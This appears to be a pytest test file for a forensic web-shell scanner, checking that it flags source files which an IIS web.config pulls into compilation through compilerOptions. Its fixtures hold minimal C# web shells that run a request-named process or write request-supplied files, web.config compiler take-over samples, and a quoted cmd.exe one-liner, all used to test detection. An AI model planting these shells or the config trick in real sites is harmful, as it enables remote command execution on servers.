"""A source file a ``web.config`` hands the compiler by ``<compiler compilerOptions=..>`` (issue 14, X38,
session 17): csc compiles it with every page of the folder, whatever its name, so its code is read as
the pages' (C# or VB by its text). The options name it by the server's absolute path, which the
evidence's copy does not share: the file of that name in the config's own folder is taken, else the
path's tail below any folder of the evidence. Roslyn's ordinary options name no file."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from extriage.detections.webfiles import content

from .rule_tables import findings_for, scan_tree

ROOT = "C/inetpub/wwwroot/"

#: A Page class whose render method starts what the request names (X38's .txt shape, harmless command).
_PAGE_CLASS = (
    "namespace ASP {\n"
    "    public class notes_list_aspx : global::System.Web.UI.Page {\n"
    "        protected override void OnLoad(System.EventArgs e) {\n"
    '            if (!string.IsNullOrEmpty(Request["t"])) {\n'
    "                var p = new System.Diagnostics.Process();\n"
    '                p.StartInfo.FileName = Request["t"];\n'
    "                p.Start();\n"
    "            }\n"
    "        }\n"
    "    }\n"
    "}\n"
)


def _config(options: str) -> str:
    return (
        '<?xml version="1.0"?>\n<configuration>\n<system.web>\n<compilation debug="false">\n<compilers>\n'
        '<compiler language="c#" extension=".cs" '
        'type="Microsoft.CSharp.CSharpCodeProvider, System, Version=4.0.0.0, Culture=neutral, '
        'PublicKeyToken=b77a5c561934e089" warningLevel="4"\n'
        f"  compilerOptions={options}/>\n"
        "</compilers>\n</compilation>\n</system.web>\n</configuration>\n"
    )


_PAGE = '<%@ Page Language="C#" %>\n<html><body>notes</body></html>\n'

#: (folder's web.config options as written, the named file, its text)
SHELLS: list[tuple[str, str, str]] = [
    # X38's shape: the server's path, quoted inside a single-quoted attribute, then a '#'
    ("""'"C:\\appdata\\wwwroot\\site\\notes\\list.txt" #'""", "site/notes/list.txt", _PAGE_CLASS),
    # a path elsewhere on the server, bare; found by its tail below the evidence's folders
    ('"/optimize+ D:\\www\\site\\lib\\Helpers.dat /nowarn:1659"', "site/lib/helpers.dat", _PAGE_CLASS),
]
SHELL_FOLDERS = ["site/notes", "site/other"]
#: A folder whose config names a harmless source file by the server's path (the config itself is YARA's
#: EXT_WEBSHELL config take-over finding: an absolute path in compilerOptions is unusual enough).
NAMING_CONFIG = ("calc/web.config", _config("""'"C:\\inetpub\\wwwroot\\calc\\sum.txt"'"""))

#: Ordinary folders: Roslyn's options (no file), and a harmless source file named the same way.
BENIGN_CONFIGS: list[tuple[str, str]] = [
    ("plain/web.config", _config('"/langversion:default /nowarn:1659;1699;1701"')),
    ("plain/readme.txt", 'Process.Start("cmd.exe", "/c " + Request["c"]) was the old page.\n'),
    ("calc/sum.txt", "public static class Sum { public static int Add(int a, int b) { return a + b; } }\n"),
    ("calc/index.aspx", _PAGE),
]


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    files: list[tuple[str, str]] = []
    for (options, named, text), folder in zip(SHELLS, SHELL_FOLDERS, strict=True):
        files += [(f"{folder}/web.config", _config(options)), (f"{folder}/index.aspx", _PAGE), (named, text)]
    return scan_tree(tmp_path_factory.mktemp("compiler"), ROOT, [*files, NAMING_CONFIG, *BENIGN_CONFIGS])


@pytest.mark.parametrize(("options", "named", "text"), SHELLS, ids=[s[1] for s in SHELLS])
def test_a_file_the_compiler_options_name_is_read_as_the_folders_code(
    scanned: dict[str, Any], options: str, named: str, text: str
) -> None:
    found = [f for f in findings_for(scanned, named) if "behaviour:process" in f["tags"]]
    assert found, [(f["rule_id"], f["tags"]) for f in scanned["findings"]]
    sinks = [e for e in found[0]["evidence"] if e["fields"].get("role") == "sink"]
    assert sinks and "compilerOptions" in str(sinks[0]["fields"]["compiled"])


@pytest.mark.parametrize(("rel", "text"), BENIGN_CONFIGS, ids=[b[0] for b in BENIGN_CONFIGS])
def test_ordinary_compiler_options_and_the_files_they_name_stay_silent(
    scanned: dict[str, Any], rel: str, text: str
) -> None:
    assert [f["rule_id"] for f in findings_for(scanned, rel)] == []


@pytest.mark.parametrize(
    ("options", "paths"),
    [
        ("""'"C:\\a b\\x.txt" #'""", ["C:\\a b\\x.txt"]),
        ('"/langversion:default /nowarn:1659;1699;1701"', []),
        ('"/optimize+ /d:TRACE D:\\w\\h.dat -warnaserror"', ["D:\\w\\h.dat"]),
        ('"&quot;C:\\w\\s p.cs&quot; /define:_MYTYPE=\\&quot;Web\\&quot; /optionInfer+"', ["C:\\w\\s p.cs"]),
        ("'/resource:C:\\w\\r.txt,Name @C:\\w\\more.rsp /recurse:C:\\w\\*.cs'", []),
        ('"/reference:C:\\w\\lib.dll /r:System.dll"', []),
    ],
)
def test_the_files_compiler_options_name(options: str, paths: list[str]) -> None:
    refs = content.config_refs(_config(options))
    assert refs == [("compiler", p) for p in paths]


_WRITER_CLASS = (
    "namespace ASP {\n    public class notes_aspx : global::System.Web.UI.Page {\n"
    "        protected override void OnLoad(System.EventArgs e) {\n"
    '            System.IO.File.WriteAllText(Server.MapPath("~/files/") + Request["n"], Request["t"]);\n'
    "        }\n    }\n}\n"
)


def test_a_compiled_in_file_is_no_page_of_its_application(tmp_path: Path) -> None:
    """A file csc is handed through compilerOptions is not tied into its application by that config: its
    application-feature sink (a file write) stays a web shell, not a page of the application for review
    (the review path takes a file named by another file as that file's code)."""
    files = [
        ("app/web.config", _config("""'"C:\\inetpub\\wwwroot\\app\\notes.txt" #'""")),
        ("app/notes.txt", _WRITER_CLASS),
        ("app/Site.master", '<%@ Master Language="C#" %><html><body></body></html>\n'),
        ("app/index.aspx", '<%@ Page Language="C#" MasterPageFile="~/Site.master" %>\n<a href="notes.aspx">notes</a>\n'),
    ]
    data = scan_tree(tmp_path / "app", ROOT, files)
    found = findings_for(data, "app/notes.txt")
    assert found and {f["outcome"] for f in found} == {"webshell"}, [(f["rule_id"], f["outcome"], f["tags"]) for f in found]


def test_a_hostile_config_names_a_bounded_number_of_files() -> None:
    """Each absolute path a config names is looked for in the whole evidence: a config naming thousands is
    taken for its first COMPILER_REFS_MAX (real configs name none or one)."""
    many = " ".join(f"C:\\w\\f{i}.txt" for i in range(5000))
    refs = content.config_refs(_config(f'"{many}"'))
    assert len(refs) == content.COMPILER_REFS_MAX and refs[0] == ("compiler", "C:\\w\\f0.txt")
